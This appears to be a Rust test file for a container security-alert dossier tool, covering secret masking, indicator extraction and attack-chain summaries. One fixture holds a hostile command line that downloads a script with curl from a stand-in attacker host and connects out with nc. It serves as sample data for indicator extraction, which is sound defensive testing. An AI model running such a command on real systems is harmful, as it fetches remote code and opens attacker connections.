//! Chapters for the tests of reports, and what a dossier makes of them.

use super::*;
use crate::analysis::{Assessment, Match, Missing, PlaybookRef, Reason, Risk, Step};
use crate::model::Value;

/// A chapter in which everything that an alert can say is `hostile`.
pub fn chapter(hostile: &str) -> Chapter {
    let mut alert = alert(&[
        ("proc.cmdline", hostile),
        ("fd.name", hostile),
        ("container.id", hostile),
        ("container.name", hostile),
        (hostile, hostile),
    ]);
    alert.rule = Some(hostile.into());
    alert.hostname = Some(hostile.into());
    alert.output = Some(hostile.into());
    alert.time = Some("2026-11-21T09:00:00.5Z".parse().unwrap());
    alert.origin.source = hostile.into();
    let text = || hostile.to_owned();
    let analysis = Analysis {
        playbook: PlaybookRef { id: text(), found_by: Match::Rule },
        headline: text(),
        summary: text(),
        story: None,
        proves: vec![text()],
        not_proven: vec![text()],
        facts: Vec::new(),
        assessment: Assessment {
            level: Level::High,
            falco_priority: None,
            known: None,
            reasons: vec![Reason { field: text(), says: text(), direction: Direction::Up }],
        },
        causes: Vec::new(),
        missing: vec![Missing { field: text(), why: text(), find: text() }],
        attack: Vec::new(),
        steps: vec![Step {
            phase: Phase::Verify,
            id: "x".into(),
            title: text(),
            why: text(),
            command: Some("docker pause 0123456789ab".into()),
            variant: "docker".into(),
            others: Vec::new(),
            risk: Risk::ReadOnly,
            undo: None,
            privilege: "root".into(),
            needs: Vec::new(),
            unavailable: None,
            note: None,
        }],
        related: Vec::new(),
        tuning: Some(text()),
        references: Vec::new(),
    };
    Chapter {
        alert,
        analysis,
        sha256: text(),
        decision: Some((Decision { note: Some(text()), ..Decision::default() }, text())),
    }
}

#[test]
fn the_summary_has_five_lines_and_masks_secrets() {
    let made = "2026-11-21T10:00:00Z".parse().unwrap();
    let dossier = Dossier::new("Case", made, vec![chapter("app --password=hunter2")], true);
    assert_eq!(dossier.summary().len(), 5);
    assert!(dossier.masked > Some(0));
    let alert = &dossier.chapters[0].alert;
    assert!(!alert.fields.text("proc.cmdline").unwrap().contains("hunter2"));
    assert!(!alert.output.as_deref().unwrap().contains("hunter2"));
    assert!(!dossier.chapters[0].analysis.headline.contains("hunter2"));
}

pub fn alert(fields: &[(&str, &str)]) -> Alert {
    let mut alert = Alert::default();
    for (key, value) in fields {
        alert.fields.set(key, Value::String((*value).into()));
    }
    alert
}

#[test]
fn what_others_can_look_for_is_listed() {
    let alert = alert(&[
        ("fd.name", "10.0.0.5:41000->198.51.100.7:4444"),
        (
            "proc.cmdline",
            "sh -c curl -o /tmp/a.sh http://evil.example.org:8080/a.sh && nc 203.0.113.9 1",
        ),
        ("container.image.repository", "docker.io/library/nginx"),
        ("container.id", "0123456789ab"),
    ]);
    let found: Vec<_> = indicators(&alert).into_iter().map(|i| (i.kind, i.value)).collect();
    for expected in [
        ("address", "198.51.100.7"),
        ("address", "203.0.113.9"),
        ("host name", "evil.example.org"),
        ("image", "docker.io/library/nginx"),
        ("container", "0123456789ab"),
    ] {
        assert!(
            found.contains(&(expected.0, expected.1.to_owned())),
            "{found:?} lacks {expected:?}"
        );
    }
    assert!(!found.iter().any(|(_, value)| value == "a.sh"));
}

#[test]
fn of_many_stories_the_summary_tells_three() {
    let dossier = |n_places: usize| {
        let chapters = (0..n_places).flat_map(|place| {
            ["execution", "persistence", "discovery"].map(|tactic| {
                let mut chapter = chapter("x");
                chapter
                    .alert
                    .fields
                    .set("container.name", Value::String(format!("web-{place}").into()));
                chapter.analysis.attack = vec![crate::analysis::Attack {
                    technique: "T1".into(),
                    name: "x".into(),
                    tactic: tactic.into(),
                    url: String::new(),
                }];
                chapter
            })
        });
        let made = "2026-11-21T10:00:00Z".parse().unwrap();
        Dossier::new("Case", made, chapters.collect(), false)
    };
    let story = |n_places| dossier(n_places).story().unwrap();
    assert_eq!(story(3).matches("then persistence").count(), 3);
    assert!(!story(3).contains("other place"));
    assert_eq!(story(4).matches("then persistence").count(), 3);
    assert!(story(4).ends_with(" 1 other place shows such a chain."), "{}", story(4));
    assert!(story(9).ends_with(" 6 other places show such a chain."), "{}", story(9));
    assert_eq!(dossier(9).stories().len(), 9);
}
